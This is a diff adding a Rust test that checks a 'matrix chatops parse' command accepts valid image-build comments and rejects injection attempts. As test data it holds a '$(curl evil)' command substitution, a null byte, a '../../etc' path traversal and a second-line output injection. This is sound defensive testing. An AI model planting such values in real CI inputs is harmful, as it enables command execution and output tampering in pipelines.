@@ -280,3 +280,53 @@ fn contract_and_image_components_are_checked() {
         &["matrix.lock:", "newest.cri-tools", "not a release version"],
     );
 }
+
+/// `matrix chatops parse` reads the comment on stdin and refuses anything
+/// that is not a safe command with exit 2.
+#[test]
+fn chatops_parse_accepts_commands_and_refuses_injection() {
+    use std::io::Write;
+    use std::process::{Command, Stdio};
+    let run = |comment: &str, title: &str| {
+        let mut child = Command::new(env!("CARGO_BIN_EXE_matrix"))
+            .args(["chatops", "parse", "--title", title])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        child.stdin.take().unwrap().write_all(comment.as_bytes()).unwrap();
+        child.wait_with_output().unwrap()
+    };
+    let out = run(
+        "/imagebuild_apps ingress-nginx v1.9.4\n",
+        "【Auto-build】ingress-nginx",
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "kind=apps\nname=ingress-nginx\nversion=v1.9.4\n"
+    );
+    // Only the command line is read: a second line cannot add outputs.
+    let out = run(
+        "/imagebuild_apps ingress-nginx v1\nname=evil\n",
+        "【Auto-build】ingress-nginx",
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "kind=apps\nname=ingress-nginx\nversion=v1\n"
+    );
+    for hostile in [
+        "/imagebuild_apps ingress-nginx $(curl evil)",
+        "/imagebuild_apps ingress-nginx v1\u{0}x",
+        "/imagebuild_apps ../../etc v1",
+        "/imagebuild_apps other v1",
+    ] {
+        let out = run(hostile, "【Auto-build】ingress-nginx");
+        assert_eq!(out.status.code(), Some(2), "{hostile}");
+        assert!(
+            out.stdout.is_empty(),
+            "nothing reaches $GITHUB_OUTPUT for {hostile}"
+        );
+    }
+}
